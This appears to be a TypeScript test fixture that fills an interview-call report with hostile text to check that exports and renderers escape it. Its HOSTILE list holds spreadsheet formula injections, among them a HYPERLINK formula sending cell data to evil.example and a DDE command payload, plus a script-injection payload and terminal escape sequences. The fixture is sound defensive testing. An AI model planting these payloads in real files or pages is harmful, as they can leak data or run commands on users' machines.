import type { Report } from '../../src/types.js';
import { flagOf, pieceOf, reportOf } from '../store/reports.js';

/** Texts that could break a file or a program that opens it. */
export const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"ok")',
  '+1+cmd|/C calc!A0',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '＝1+1',
  'a "quote", a comma\r\nand a line',
  '</script><script>alert(1)</script><img src=http://evil.example/x onerror=alert(1)>',
  "it's & <b>bold</b> `tick` $x",
  '[link](http://evil.example) ![picture](http://evil.example/p.png) <http://evil.example>',
  '# heading',
  '1. item',
  'one --> two\n\n00:00:01.000 --> 00:00:02.000\nnever said',
  '{\\an8}{b}tag{/b}',
  '\u001b[31mred\u001b]0;title\u0007',
  'left\u202eright\u2066inner\u2069\u200f',
  'nul\u0000 and c1 \u009b31m',
  '\ud800 half',
];

/** A report with hostile text in every place that holds words. */
export function hostileReport(): Report {
  const utterances = HOSTILE.map((text, id) => ({ id, ...pieceOf(text), start: id, end: id + 0.9 }));
  const flags = HOSTILE.map((quote, id) =>
    flagOf({ id, utterance: id, quote, span: [0, quote.length], start: id, end: id + 0.9 }),
  );
  const [name = ''] = HOSTILE;
  const call = { file: HOSTILE[7] ?? '', company: name, role: HOSTILE[9] ?? '', date: '2026-11-20' };
  const verdict = { level: 'ask' as const, reasons: HOSTILE };
  return reportOf('hostile', call, { utterances, flags, notices: HOSTILE, verdict });
}

/** A call with a flag that stays and one that was dismissed, with a step of each. */
export function halfDismissed(): Report {
  const utterances = ['May I record this?', 'We need it by tonight.', 'No, thanks.'].map((text, id) => ({
    ...{ id, ...pieceOf(text), start: id * 10, end: id * 10 + 4 },
    speaker: id === 2 ? ('candidate' as const) : ('interviewer' as const),
  }));
  const flags = [
    flagOf({ quote: 'May I record this?', span: [0, 18], why: [{ text: 'record', weight: 0.5, span: [6, 12] }] }),
    flagOf({
      ...{ id: 1, label: 'urgency-scarcity', family: 'pressure', severity: 'medium', utterance: 1 },
      ...{ quote: 'We need it by tonight.', span: [0, 22], dismissed: true, why: [] },
    }),
  ];
  const timeline = [
    { event: 'asked' as const, start: 0, utterance: 0, about: 'recording-request' as const, flag: 0, after: null },
    { event: 'pressed' as const, start: 10, utterance: 1, about: null, flag: 1, after: null },
    {
      event: 'consent-refused' as const,
      start: 20,
      utterance: 2,
      about: 'recording-request' as const,
      flag: 0,
      after: 20,
    },
  ];
  return reportOf('half', {}, { utterances, flags, timeline });
}

/** Characters that a terminal or an editor obeys and nobody sees. */
export const UNSEEN = /[^\P{Cc}\s]|[\p{Cs}\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;
